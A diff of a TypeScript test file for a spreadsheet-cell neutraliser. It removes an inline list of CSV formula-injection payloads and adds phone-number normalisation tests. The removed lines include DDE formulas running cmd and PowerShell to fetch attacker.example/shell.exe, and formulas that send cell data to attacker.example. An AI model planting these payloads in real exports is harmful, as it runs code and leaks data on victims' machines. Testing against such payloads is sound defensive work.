@@ -1,76 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { neutraliseCell, restoreCell } from './neutralise-cell.ts';
-
-/** Attacks as published by OWASP ("CSV Injection") and in public lists of payloads, with their usual disguises. */
-const payloads = [
-  '=1+1',
-  '=1+1";=1+2',
-  "=1+2';=1+2",
-  "=SUM(1+1)*cmd|' /C calc'!A0",
-  "=cmd|' /C calc'!A0",
-  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
-  "=10+20+cmd|' /C calc'!A0",
-  "=cmd|' /C notepad'!'A1'",
-  '=HYPERLINK("http://attacker.example?leak="&A1,"Click")',
-  '=HYPERLINK(CONCATENATE("http://attacker.example/",A1:A9),"x")',
-  '=IMPORTXML(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
-  '=IMPORTFEED(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)))',
-  '=IMPORTHTML(CONCAT("http://attacker.example/",A2),"table",1)',
-  '=IMPORTRANGE("https://docs.example/d/1","Sheet1!A2:B2")',
-  '=IMAGE("https://attacker.example/?a="&B2)',
-  '=WEBSERVICE("http://attacker.example/"&A1)',
-  '=DDE("cmd";"/C calc";"__DdeLink")',
-  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
-  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-  "='file:///etc/passwd'#$passwd.A1",
-  '=AND(1,1)',
-  '=',
-  '==1+1',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '+HYPERLINK("http://attacker.example","x")',
-  "+thespanishinquisition(cmd|' /C calc'!A",
-  '+44 20 7946 0000',
-  '+',
-  '-1+1',
-  "-2+3+cmd|' /C calc'!D2",
-  '-HYPERLINK("http://attacker.example")',
-  '-5',
-  '-',
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  '@import',
-  '@',
-  '\t=1+1',
-  '\tcmd',
-  '\r=1+1',
-  '\rcmd',
-  '\n=1+1',
-  '\n\n@SUM(1)',
-  '\r\n-1',
-  ' =1+1',
-  '   +1+1',
-  '\u00a0=1+1',
-  '\u3000=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '\u2060@SUM(1)',
-  '\u00ad-1+1',
-  '\u2028=1+1',
-  '"=1+1',
-  '"" =1+1',
-  "'=1+1",
-  "''=1+1",
-  '“=1+1”',
-  '«=1+1»',
-  '`=1+1`',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  ' \u200b "＝cmd',
-];
+import { payloads } from '../../test-kit/files/formulas.ts';
+import { e164, machinePhone, neutraliseCell, restoreCell } from './neutralise-cell.ts';
 
 describe('cells that a spreadsheet would run', () => {
   test('there are at least 60 of them', () => {
@@ -122,4 +53,29 @@ test('restoring gives back every text without line breaks and tabs, exactly', ()
     }),
     { seed: 5, numRuns: 5000 },
   );
+});
+
+test.each([
+  ['+44 20 7946 0000', '+442079460000'],
+  ['+49 (0)30 23125-100', '+493023125100'],
+  ['+1 (202) 555.0100', '+12025550100'],
+  ['(202) 555-0100', '(202) 555-0100'],
+  ['+1 202-555-0100 ext 7', "'+1 202-555-0100 ext 7"],
+  ['+44', "'+44"],
+  ['+442079460000+1', "'+442079460000+1"],
+  ['+44 20 7946 0000;=1+1', "'+44 20 7946 0000;'=1+1"],
+  ['-442079460000', "'-442079460000"],
+  ['=442079460000', "'=442079460000"],
+])('a machine gets the phone %j as %j', (phone, expected) => {
+  expect(machinePhone(phone)).toBe(expected);
+});
+
+test('a number in E.164 has 7 to 15 digits and begins with no zero', () => {
+  expect(['+1234567', '+123456789012345'].map(e164)).toEqual(['+1234567', '+123456789012345']);
+  expect(['+123456', '+1234567890123456', '+0123456789', '2025550100'].map(e164)).toEqual([
+    null,
+    null,
+    null,
+    null,
+  ]);
 });
